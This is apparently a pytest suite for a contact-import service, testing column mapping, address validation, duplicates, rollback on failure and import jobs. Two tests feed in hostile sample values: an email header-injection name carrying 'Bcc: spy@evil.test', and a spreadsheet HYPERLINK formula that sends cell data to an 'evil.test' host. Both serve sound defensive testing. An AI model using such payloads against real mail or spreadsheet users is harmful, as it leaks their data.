"""Importing contacts: mapping, per-row errors, duplicates, lists, all-or-nothing writes."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import func, select, text

from campaign.extensions import db
from campaign.models import AuditEvent, Contact, ContactImport, ImportStatus, list_memberships
from campaign.services.contacts import importing
from campaign.services.contacts.contacts import create_contact
from campaign.services.contacts.importing import ImportResult, ImportSetupError, RowResult

# The packaged copy of ../shared/domain/sample_contacts.csv (CI has no fixed shared/ path).
SAMPLE = Path(__file__).resolve().parents[2] / "campaign" / "demo" / "data" / "sample_contacts.csv"
HEADER = "given_name,family_name,email\n"


def csv_file(tmp_path: Path, text: str, name: str = "contacts.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def run(
    path: Path, mapping: dict[str, str] | None = None, **options: Any
) -> tuple[ImportResult, list[RowResult]]:
    rejected: list[RowResult] = []
    if mapping is None:
        info, rows = importing.open_contact_file(path)
        rows.close()
        mapping = importing.auto_mapping(info.headers)
    result = importing.import_contacts(path, mapping, on_reject=rejected.append, **options)
    db.session.commit()
    return result, rejected


def contacts() -> list[Contact]:
    return list(db.session.scalars(select(Contact).order_by(Contact.id)))


def count() -> int:
    return int(db.session.scalar(select(func.count(Contact.id))) or 0)


# --- Mapping ---------------------------------------------------------------------------


def test_the_sample_files_headers_are_mapped_automatically() -> None:
    headers = SAMPLE.read_text(encoding="utf-8").splitlines()[0].split(",")
    mapping = importing.auto_mapping(headers)
    assert mapping["secretariat_email"] == "cc_emails"
    assert all(mapping[h] for h in headers), mapping
    assert mapping["given_name"] == "given_name"


def test_common_header_spellings_are_mapped() -> None:
    headers = ["First Name", "SURNAME", "E-Mail", "Organization", "Job title", "Lang", "Ignore me"]
    assert importing.auto_mapping(headers) == {
        "First Name": "given_name",
        "SURNAME": "family_name",
        "E-Mail": "email",
        "Organization": "organisation",
        "Job title": "position_title",
        "Lang": "languages",
        "Ignore me": "",
    }


def test_a_field_is_mapped_only_once() -> None:
    mapping = importing.auto_mapping(["Email", "E-mail address"])
    assert mapping == {"Email": "email", "E-mail address": ""}


def test_a_mapping_is_remembered_for_the_same_headers_in_any_order_or_case(app: Flask) -> None:
    headers = ["Vorname", "Wer", "Adresse"]
    mapping, remembered = importing.suggest_mapping(headers)
    assert not remembered and mapping["Wer"] == ""
    importing.remember_mapping(
        headers, {"Vorname": "given_name", "Wer": "family_name", "Adresse": "email"}
    )
    db.session.commit()
    again, remembered = importing.suggest_mapping(["adresse", "WER", "vorname"])
    assert remembered
    assert again == {"adresse": "email", "WER": "family_name", "vorname": "given_name"}


def test_a_mapping_without_email_is_refused_listing_the_columns() -> None:
    with pytest.raises(ImportSetupError, match=r"no column is mapped to email.*Name, Mail"):
        importing.clean_mapping(["Name", "Mail"], {"Name": "family_name", "Mail": ""})


def test_two_columns_mapped_to_one_field_are_refused() -> None:
    with pytest.raises(ImportSetupError, match="both mapped to email"):
        importing.clean_mapping(["a", "b"], {"a": "email", "b": "email"})


# --- Importing -------------------------------------------------------------------------


def test_the_sample_file_imports_every_contact(app: Flask) -> None:
    result, rejected = run(SAMPLE)
    assert (result.imported, result.rejected) == (13, 0), [r.reason for r in rejected]
    jonas = db.session.scalar(select(Contact).where(Contact.email_key == "euco@example.org"))
    assert jonas is not None
    assert jonas.cc_emails == "cabinet.euco@example.org"
    assert jonas.languages == "en fr"
    assert jonas.role_type == "eu_council_president"
    event_ = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "contacts.import"))
    assert event_ is not None and event_.detail["imported"] == 13


BAD_ADDRESSES = [
    ("a@b@c.org", "invalid characters: '@'"),
    ("john..doe@example.org", "two periods in a row"),
    ("x@localhost", "should have a period"),
    ("user@example.org.", "cannot end with a period"),
    ("user@[127.0.0.1]", "bracketed IP address"),
    # Decision (docs/decisions/0002): a display name is refused, not silently stripped.
    ("Name <a@example.org>", "display name and angle brackets"),
]


@pytest.mark.parametrize(("address", "reason"), BAD_ADDRESSES)
def test_a_bad_address_is_rejected_with_line_column_and_reason(
    app: Flask, tmp_path: Path, address: str, reason: str
) -> None:
    path = csv_file(tmp_path, HEADER + f'Anna,Muster,"{address}"\nCarl,Probe,c@example.org\n')
    result, rejected = run(path)
    assert (result.imported, result.rejected) == (1, 1)
    assert rejected[0].line == 2
    assert rejected[0].column == "email"
    assert reason in rejected[0].reason
    assert [c.email for c in contacts()] == ["c@example.org"]


def test_an_idn_domain_is_accepted(app: Flask, tmp_path: Path) -> None:
    result, _ = run(csv_file(tmp_path, HEADER + "Anna,Muster,anna@bücher.de\n"))
    assert result.imported == 1
    assert contacts()[0].email == "anna@bücher.de"


def test_the_same_address_twice_in_different_case_makes_one_contact(
    app: Flask, tmp_path: Path
) -> None:
    text = HEADER + "Alice,One,Alice@Example.ORG\nAlice,Two,alice@example.org\n"
    result, rejected = run(csv_file(tmp_path, text))
    assert (result.imported, result.rejected) == (1, 1)
    assert "already on line 2" in rejected[0].reason
    assert rejected[0].line == 3
    assert [c.family_name for c in contacts()] == ["One"]


def test_a_name_with_a_line_break_is_rejected_and_not_stored(app: Flask, tmp_path: Path) -> None:
    text = HEADER + '"Alice\r\nBcc: spy@evil.test",Muster,a@example.org\nCarl,Probe,c@example.org\n'
    result, rejected = run(csv_file(tmp_path, text))
    assert (result.imported, result.rejected) == (1, 1)
    assert rejected[0].column == "given_name"
    assert "one line" in rejected[0].reason
    assert all("spy" not in c.given_name for c in contacts())
    assert count() == 1


@pytest.mark.parametrize(
    "value", ['=HYPERLINK("https://evil.test/?"&A1)', "+1-1", "-5", "@SUM(1+1)"]
)
def test_formula_like_cells_are_stored_as_text(app: Flask, tmp_path: Path, value: str) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["given_name", "family_name", "email"], [value, "X", "f@x.org"]])
    run(csv_file(tmp_path, buffer.getvalue()))
    assert contacts()[0].given_name == value


def test_an_apostrophe_added_by_our_export_is_taken_off_again(app: Flask, tmp_path: Path) -> None:
    run(csv_file(tmp_path, HEADER + "'=1+1,'O'Brien,f@x.org\n"))
    assert contacts()[0].given_name == "=1+1"
    assert contacts()[0].family_name == "'O'Brien"  # only before a formula character


def test_every_rejected_row_is_counted_and_the_valid_ones_are_imported(
    app: Flask, tmp_path: Path
) -> None:
    text = (
        "given_name,family_name,email,country,languages\n"
        "Anna,Muster,a@example.org,DE,de\n"
        "Bob,Bad,not-an-address,FR,fr\n"
        "Carl,Probe,c@example.org,France,en\n"
        ",,d@example.org,,\n"
        "Eve,Fine,e@example.org,FR,fr;en\n"
    )
    result, rejected = run(csv_file(tmp_path, text), rejects_path=tmp_path / "rejects.csv")
    assert result.summary() == "imported 2, updated 0, skipped 0, rejected 3"
    assert [(r.line, r.column) for r in rejected] == [
        (3, "email"),
        (4, "country"),
        (5, "family_name"),
    ]
    assert "not a country code the country table knows" in rejected[1].reason
    assert "needs a name" in rejected[2].reason
    with (tmp_path / "rejects.csv").open(encoding="utf-8-sig", newline="") as stream:
        lines = list(csv.reader(stream))
    assert lines[0] == [
        "line",
        "column",
        "reason",
        "given_name",
        "family_name",
        "email",
        "country",
        "languages",
    ]
    assert lines[1][:3] == ["3", "email", rejected[0].reason]
    assert lines[1][3:] == ["Bob", "Bad", "not-an-address", "FR", "fr"]
    assert importing.read_rejects(str(tmp_path / "rejects.csv"))[0][1]["column"] == "country"


def test_rows_the_file_could_not_parse_are_rejected_with_their_line(
    app: Flask, tmp_path: Path
) -> None:
    text = HEADER + 'Anna,"Muster,a@example.org\nCarl,Probe,c@example.org\nDo\x00ra,B,d@x.org\n'
    result, rejected = run(csv_file(tmp_path, text))
    assert (result.imported, result.rejected) == (1, 2)
    assert rejected[0].line == 2 and "unbalanced quotes" in rejected[0].reason
    assert rejected[1].line == 4 and rejected[1].column == "given_name"
    assert "NUL" in rejected[1].reason


def test_existing_addresses_are_skipped_or_updated(app: Flask, tmp_path: Path) -> None:
    create_contact(
        {"given_name": "Anna", "family_name": "Old", "email": "anna@example.org", "notes": "keep"}
    )
    db.session.commit()
    text = "given_name,family_name,email,notes\nAnna,New,ANNA@example.org,\nBen,B,b@example.org,\n"
    path = csv_file(tmp_path, text)
    skipped, _ = run(path, on_duplicate="skip")
    assert skipped.summary() == "imported 1, updated 0, skipped 1, rejected 0"
    anna = db.session.scalar(select(Contact).where(Contact.email_key == "anna@example.org"))
    assert anna is not None and anna.family_name == "Old"
    updated, _ = run(path, on_duplicate="update")
    assert updated.summary() == "imported 0, updated 2, skipped 0, rejected 0"
    db.session.refresh(anna)
    assert anna.family_name == "New"
    assert anna.notes == "keep"  # an empty cell does not erase what we had
    assert count() == 2


def test_imported_and_existing_contacts_join_the_target_list(app: Flask, tmp_path: Path) -> None:
    existing = create_contact({"family_name": "Old", "email": "old@example.org"})
    press = importing.find_or_create_list("Press")
    db.session.commit()
    path = csv_file(tmp_path, HEADER + "A,New,new@example.org\nB,Old,old@example.org\n")
    run(path, contact_list=press)
    run(path, contact_list=importing.find_or_create_list("press"))  # same list, no duplicates
    members = set(
        db.session.scalars(
            select(list_memberships.c.contact_id).where(list_memberships.c.list_id == press.id)
        )
    )
    assert existing.id in members
    assert len(members) == 2


def test_a_failure_half_way_leaves_no_contact_behind(
    app: Flask, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    create_contact({"family_name": "Before", "email": "before@example.org"})
    db.session.commit()
    lines = "".join(f"N{i},F{i},n{i}@example.org\n" for i in range(10))
    path = csv_file(tmp_path, HEADER + lines)
    written = []
    real_insert = importing._insert_contacts

    # The contacts are written by COPY on PostgreSQL, which bypasses SQLAlchemy's statement
    # events, so the failure is injected at the write itself, after two real chunks.
    def fail_on_third_chunk(rows: list[dict[str, Any]]) -> None:
        if len(written) == 2:
            raise RuntimeError("database went away")
        real_insert(rows)
        written.append(len(rows))

    monkeypatch.setattr(importing, "_insert_contacts", fail_on_third_chunk)
    with pytest.raises(RuntimeError, match="went away"):
        importing.import_contacts(
            path, importing.auto_mapping(["given_name", "family_name", "email"]), chunk_rows=2
        )
    assert db.session.scalar(select(func.count(Contact.id))) == 5  # really written, then…
    db.session.rollback()  # what the CLI and the job do
    assert [c.family_name for c in contacts()] == ["Before"]
    assert written == [2, 2]


def test_a_failed_job_records_why_and_imports_nothing(
    app: Flask, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from workers import context, jobs

    path = csv_file(tmp_path, HEADER + "Anna,Muster,a@example.org\n")
    record = ContactImport(
        original_filename="c.csv",
        stored_path=str(path),
        status=ImportStatus.QUEUED.value,
        mapping={"given_name": "given_name", "family_name": "family_name", "email": "email"},
    )
    db.session.add(record)
    db.session.commit()
    record_id = record.id

    def broken_audit(*_args: Any, **_kwargs: Any) -> None:
        raise RuntimeError("audit table is locked")

    context.set_app(app)
    monkeypatch.setattr(importing, "record_event", broken_audit)
    jobs.import_contacts(record_id)
    db.session.expire_all()
    failed = db.session.get(ContactImport, record_id)
    assert failed is not None and failed.status == "failed"
    assert "internal error (RuntimeError)" in failed.error
    assert count() == 0
    assert importing.read_progress(record_id)["state"] == "failed"  # type: ignore[index]


def test_a_queued_import_runs_once_and_reports_progress(app: Flask, tmp_path: Path) -> None:
    from workers import context, jobs

    path = csv_file(tmp_path, HEADER + "Anna,Muster,a@example.org\nBad,Row,nope\n")
    record = ContactImport(
        original_filename="c.csv",
        stored_path=str(path),
        status=ImportStatus.QUEUED.value,
        mapping={"given_name": "given_name", "family_name": "family_name", "email": "email"},
    )
    db.session.add(record)
    db.session.commit()
    context.set_app(app)
    jobs.import_contacts(record.id)
    jobs.import_contacts(record.id)  # RQ may deliver a job twice
    db.session.expire_all()
    done = db.session.get(ContactImport, record.id)
    assert done is not None and done.status == "finished"
    assert (done.imported_count, done.rejected_count, done.total_rows) == (1, 1, 2)
    rows, more = importing.read_rejects(done.rejects_path)
    assert rows == [{"line": "3", "column": "email", "reason": rows[0]["reason"]}]
    assert "nope" in rows[0]["reason"] and not more
    progress = importing.read_progress(record.id)
    assert progress is not None and progress["imported"] == 1
    assert count() == 1


def test_the_preview_shows_outcomes_and_errors_without_writing(app: Flask, tmp_path: Path) -> None:
    create_contact({"family_name": "Old", "email": "old@example.org"})
    db.session.commit()
    text = (
        HEADER + "A,New,new@example.org\nB,Old,OLD@example.org\nC,Bad,bad@\nD,Dup,new@example.org\n"
    )
    preview = importing.preview_import(
        csv_file(tmp_path, text),
        {"given_name": "given_name", "family_name": "family_name", "email": "email"},
        on_duplicate="update",
    )
    assert [(r.line, r.outcome) for r in preview.rows] == [
        (2, "new"),
        (3, "update"),
        (4, "rejected"),
        (5, "rejected"),
    ]
    assert preview.rows[2].problems[0][0] == "email"
    assert "line 2" in preview.rows[3].problems[0][1]
    assert count() == 1


def test_an_xlsx_file_imports(app: Flask, tmp_path: Path) -> None:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["First name", "Last name", "E-mail", "Country"])
    sheet.append(["Anna", "Müller", "anna@example.org", "de"])
    sheet.append(["Bad", "Row", "bad@@example.org", "DE"])
    path = tmp_path / "contacts.xlsx"
    workbook.save(path)
    result, rejected = run(path)
    assert (result.imported, result.rejected) == (1, 1)
    assert rejected[0].line == 3 and rejected[0].column == "E-mail"
    assert (contacts()[0].family_name, contacts()[0].country) == ("Müller", "DE")


def test_an_unknown_duplicate_choice_is_refused(app: Flask, tmp_path: Path) -> None:
    with pytest.raises(ImportSetupError, match="skip or update duplicates"):
        importing.import_contacts(
            csv_file(tmp_path, HEADER + "A,B,a@example.org\n"), {}, on_duplicate="merge"
        )


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_100000_row_file_imports(app: Flask, tmp_path: Path) -> None:
    # SQLite only, to keep the suite's run time reasonable; bench/import.py measures speed.
    path = tmp_path / "big.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["given_name", "family_name", "email", "country", "tags"])
        for i in range(100_000):
            writer.writerow(
                [f"Given{i}", f"Family{i}", f"person{i}@example{i % 50}.org", "FR", "press"]
            )
        writer.writerow(["Last", "Bad", "bad-address", "FR", ""])
    progress: list[importing.Progress] = []
    result, rejected = run(path, on_progress=progress.append)
    assert result.summary() == "imported 100000, updated 0, skipped 0, rejected 1"
    assert rejected[0].line == 100_002
    assert count() == 100_000
    assert len(progress) >= 100  # one report per 1,000-row chunk, for the progress bar
    assert progress[-1].done_lines == progress[-1].total_lines == 100_002


def test_existing_addresses_are_found_through_the_index_as_the_table_grows(
    app: Flask, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A large import stays linear only if each chunk's look-up of existing addresses uses
    # the address index: the rows this import wrote are not in the planner's statistics
    # yet, and a sequential scan per chunk made 100,000 rows on PostgreSQL take minutes.
    lines = "".join(f"N{i},F{i},n{i}@example.org\n" for i in range(300))
    path = csv_file(tmp_path, HEADER + lines)
    plans: list[str] = []
    real_lookup = importing._existing_ids

    def explained(keys: list[str]) -> dict[str, int]:
        if keys and db.session.get_bind().dialect.name == "postgresql":
            real_execute = db.session.execute

            def explain(statement: Any, *args: Any, **kwargs: Any) -> Any:
                compiled = statement.compile(
                    db.session.get_bind(), compile_kwargs={"literal_binds": True}
                )
                plan = real_execute(text(f"EXPLAIN {compiled}")).scalars()
                plans.append("\n".join(plan))
                return real_execute(statement, *args, **kwargs)

            monkeypatch.setattr(db.session, "execute", explain)
            try:
                return real_lookup(keys)
            finally:
                monkeypatch.setattr(db.session, "execute", real_execute)
        return real_lookup(keys)

    monkeypatch.setattr(importing, "_existing_ids", explained)
    result, _ = run(path, chunk_rows=50)
    assert result.imported == 300
    if db.session.get_bind().dialect.name == "postgresql":
        assert len(plans) == 6
        # The partial unique index of live addresses, the only one on email_key (migration 0023).
        assert all("Seq Scan" not in plan and "live_email_key" in plan for plan in plans), plans
